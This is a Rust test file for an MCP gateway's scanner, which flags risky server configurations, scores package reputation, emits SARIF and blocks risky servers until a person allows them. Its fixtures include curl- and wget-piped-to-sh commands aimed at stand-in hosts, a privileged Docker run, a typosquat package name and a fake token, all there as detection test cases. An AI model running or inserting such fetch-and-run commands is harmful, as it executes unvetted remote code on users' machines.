//! What servers are, before they are trusted: `scan`, and gateways that scan.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

#[path = "scan/registry.rs"]
mod registry;
#[path = "scan/shown.rs"]
mod shown;

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::process::Command;

use mcp_gateway_tests::{Gateway, Server, eventually, program_beside};
use registry::{LONG_AGO, Registry, TODAY};
use serde_json::{Value, json};
use tempfile::TempDir;

/// A person's folders, and what their registries say.
struct Person {
    home: TempDir,
    registry: Registry,
}

impl Person {
    fn new() -> Self {
        Self {
            home: tempfile::tempdir().unwrap(),
            registry: Registry::start(),
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.home.path().join(name)
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.path(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        path
    }

    /// A program of that name that starts another, in place of what fetches it.
    fn program(&self, name: &str, starts: &str) -> String {
        let path = self.write(
            &format!("bin/{name}"),
            &format!("#!/bin/sh\nexec {starts}\n"),
        );
        fs::set_permissions(&path, fs::Permissions::from_mode(0o700)).unwrap();
        path.to_str().unwrap().to_owned()
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Gateway::command();
        command
            .env("HOME", self.home.path())
            .env_remove("XDG_CONFIG_HOME")
            .env("MCP_GATEWAY_STATE_DIR", self.path("state"))
            .envs(self.registry.variables())
            .args(args);
        command
    }

    fn scan(&self, args: &[&str]) -> (String, i32) {
        let output = self.command(&[&["scan"], args].concat()).output().unwrap();
        let errors = String::from_utf8_lossy(&output.stderr).into_owned();
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.is_empty(), "{errors}");
        (text, output.status.code().unwrap())
    }

    fn report(&self, args: &[&str]) -> Value {
        let (text, _) = self.scan(&[args, &["--json"]].concat());
        serde_json::from_str(&text).unwrap()
    }
}

/// The rules that fired for a server, with their levels.
fn rules(report: &Value, server: &str) -> Vec<String> {
    let servers = report["servers"].as_array().unwrap();
    let server = servers.iter().find(|it| it["name"] == json!(server));
    let findings = server.unwrap_or_else(|| panic!("{report:#}"))["findings"].as_array();
    let rule = |it: &Value| {
        format!(
            "{} {}",
            it["level"].as_str().unwrap(),
            it["rule"].as_str().unwrap()
        )
    };
    let mut rules: Vec<String> = findings.unwrap().iter().map(rule).collect();
    rules.sort();
    rules.dedup();
    rules
}

fn mcp_json(servers: Value) -> String {
    json!({ "mcpServers": servers }).to_string()
}

#[test]
fn the_servers_of_all_clients_are_found_with_what_their_files_give_away() {
    let person = Person::new();
    // Put together here, so that no scanner takes it for one.
    let token = format!("ghp_{}", "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789");
    person.write(
        ".cursor/mcp.json",
        &mcp_json(json!({
            "git": {"command": "uvx", "args": ["mcp-server-git"]},
            "mine": {"command": "docker", "args": ["run", "--privileged", "a/b"], "env": {"GITHUB_TOKEN": token}},
            "quick": {"command": "sh", "args": ["-c", "curl -s https://x.test/i.sh | sh"]},
        })),
    );
    person.write(
        ".codeium/windsurf/mcp_config.json",
        &mcp_json(json!({
            "remote": {"serverUrl": "http://mcp.example.com/mcp"},
            "typo": {"command": "npx", "args": ["-y", "mcp-remot@1.0.0"]},
            "off": {"command": "npx", "args": ["x"], "disabled": true},
        })),
    );
    let before = fs::read(person.path(".cursor/mcp.json")).unwrap();
    let report = person.report(&["--static", "--offline"]);
    for (server, expected) in [
        (
            "git",
            &["note unknown-reputation", "warning unpinned-version"][..],
        ),
        (
            "mine",
            &[
                "note unknown-reputation",
                "warning open-container",
                "warning secret-in-config",
                "warning unpinned-version",
            ],
        ),
        ("quick", &["error fetch-and-run"]),
        ("remote", &["warning plain-http"]),
        (
            "typo",
            &["error lookalike-package", "note unknown-reputation"],
        ),
    ] {
        assert_eq!(rules(&report, server), expected, "{server}");
    }
    assert_eq!(report["servers"].as_array().unwrap().len(), 5);
    assert_eq!(person.registry.asked(), 0);
    assert!(!report.to_string().contains(&token));
    assert_eq!(fs::read(person.path(".cursor/mcp.json")).unwrap(), before);
    let (text, code) = person.scan(&["--static", "--offline"]);
    assert_eq!(code, 1);
    assert!(
        text.contains("Cursor: ") && text.contains("Windsurf: "),
        "{text}"
    );
    assert_eq!(
        person
            .scan(&["--static", "--offline", "--fail-on", "never"])
            .1,
        0
    );
    assert_eq!(
        person
            .scan(&["--static", "--offline", "--client", "windsurf", "--json"])
            .1,
        1
    );
}

#[test]
fn what_registries_say_becomes_a_number() {
    let person = Person::new();
    person
        .registry
        .npm("@known/server", LONG_AGO, 60_000, Some("known/server"));
    person.registry.npm("young", TODAY, 3, None);
    person.registry.pypi(
        "old-timer",
        LONG_AGO,
        90_000,
        Some("known/server"),
        &["PYSEC-2026-1"],
    );
    person.registry.repository("known/server", 2_000);
    let file = person.write(
        "servers.json",
        &mcp_json(json!({
            "known": {"command": "npx", "args": ["-y", "@known/server@1.0.0"]},
            "young": {"command": "npx", "args": ["-y", "young@1.0.0"]},
            "nobody": {"command": "npx", "args": ["-y", "nobody-has-it@1.0.0"]},
            "open": {"command": "uvx", "args": ["old-timer==1.0.0"]},
        })),
    );
    let file = file.to_str().unwrap();
    let report = person.report(&[file, "--static"]);
    assert_eq!(rules(&report, "known"), [""; 0], "{report:#}");
    for risky in ["young", "nobody", "open"] {
        assert_eq!(rules(&report, risky), ["error risky-package"], "{report:#}");
    }
    let score = |index: usize| {
        report["servers"][index]["reputation"]["score"]
            .as_u64()
            .unwrap()
    };
    assert!(score(0) > 80 && score(1) <= 30, "{report:#}");
    assert_eq!((score(2), score(3)), (0, 0));
    // What is known is known for a day, also without the network.
    let asked = person.registry.asked();
    assert_eq!(person.report(&[file, "--static", "--offline"]), report);
    assert_eq!(person.report(&[file, "--static"]), report);
    assert_eq!(person.registry.asked(), asked);
}

#[test]
fn a_registry_that_does_not_answer_makes_nobody_risky() {
    let person = Person::new();
    person.registry.fail();
    let servers = json!({"some": {"command": "npx", "args": ["-y", "some@1.0.0"]}});
    let file = person.write("servers.json", &mcp_json(servers));
    let (text, code) = person.scan(&[file.to_str().unwrap(), "--static", "--fail-on", "warning"]);
    assert_eq!(code, 0, "{text}");
    assert!(
        text.contains("answered with status 503 [unknown-reputation]"),
        "{text}"
    );
}

#[test]
fn the_report_is_sarif_that_code_hosting_services_take() {
    let person = Person::new();
    let servers = json!({"quick": {"command": "sh", "args": ["-c", "wget -qO- x.test | sh"]}});
    let file = person.write("servers.json", &mcp_json(servers));
    let (text, code) = person.scan(&[file.to_str().unwrap(), "--static", "--sarif"]);
    assert_eq!(code, 1);
    let log: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(log["version"], json!("2.1.0"));
    let run = &log["runs"][0];
    let driver = &run["tool"]["driver"];
    assert_eq!(driver["name"], json!("mcp-gateway scan"));
    let result = &run["results"][0];
    let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
    assert_eq!(driver["rules"][index]["id"], result["ruleId"]);
    assert!(driver["rules"][index]["shortDescription"]["text"].is_string());
    assert_eq!(result["level"], json!("error"));
    assert!(
        result["message"]["text"]
            .as_str()
            .unwrap()
            .starts_with("quick: ")
    );
    let location = &result["locations"][0];
    let uri = location["physicalLocation"]["artifactLocation"]["uri"]
        .as_str()
        .unwrap();
    assert_eq!(uri, format!("file://{}", file.display()));
}

#[test]
fn a_gateway_that_scans_starts_a_server_of_a_risky_package_once_a_person_allows_it() {
    let person = Person::new();
    let npx = person.program("npx", program_beside("mirror").to_str().unwrap());
    person.registry.npm("young", TODAY, 3, None);
    person
        .registry
        .npm("known", LONG_AGO, 90_000, Some("known/server"));
    person.registry.repository("known/server", 2_000);
    let mut setup = Gateway::with()
        .setting("scan = true")
        .variable("MCP_GATEWAY_STATE_DIR", person.path("state"))
        .server(Server::command("y", &npx, &["-y", "young"]))
        .server(Server::command("k", &npx, &["-y", "known"]));
    for (name, value) in person.registry.variables() {
        setup = setup.variable(name, value);
    }
    let gateway = setup.start();
    let before = fs::read(&gateway.config).unwrap();
    let answer = gateway.client.call("k_echo", json!({"text": "x"}));
    assert!(!answer.is_tool_error(), "{}", answer.raw);
    let refused = gateway.client.call("y_echo", json!({"text": "x"}));
    assert!(refused.is_tool_error());
    for words in [
        "npm:young has a reputation of ",
        "it is very new",
        "`mcp-gateway scan allow y`",
    ] {
        assert!(
            refused.text().contains(words),
            "{words:?} is not in {}",
            refused.raw
        );
    }
    let (text, code) = person.scan(&["allow", "y"]);
    assert_eq!(
        (text.as_str(), code),
        ("y (npm:young): gateways start it from now on\n", 0)
    );
    eventually("the server to be there", || {
        !gateway
            .client
            .call("y_echo", json!({"text": "x"}))
            .is_tool_error()
    });
    assert_eq!(fs::read(&gateway.config).unwrap(), before);
}

#[test]
fn the_argument_of_the_python_gateway_scans_and_an_unknown_package_starts() {
    let person = Person::new();
    person.registry.fail();
    let npx = person.program("npx", program_beside("mirror").to_str().unwrap());
    let servers =
        json!({"gateway": {"command": "x", "servers": {"s": {"command": npx, "args": ["young"]}}}});
    let file = person.write("mcp.json", &mcp_json(servers));
    let mut child = person
        .command(&[
            "--mcp-json-path",
            file.to_str().unwrap(),
            "--scan",
            "--log-format",
            "json",
        ])
        .spawn()
        .unwrap();
    let client =
        mcp_gateway_tests::Client::on(child.stdin.take().unwrap(), child.stdout.take().unwrap());
    client.initialize();
    assert!(!client.call("s_echo", json!({"text": "x"})).is_tool_error());
    assert!(person.registry.asked() > 0);
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn only_what_was_found_risky_can_be_allowed() {
    let person = Person::new();
    let output = person.command(&["scan", "allow", "x"]).output().unwrap();
    assert!(!output.status.success());
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        errors.contains("no server named \"x\" was found risky"),
        "{errors}"
    );
}
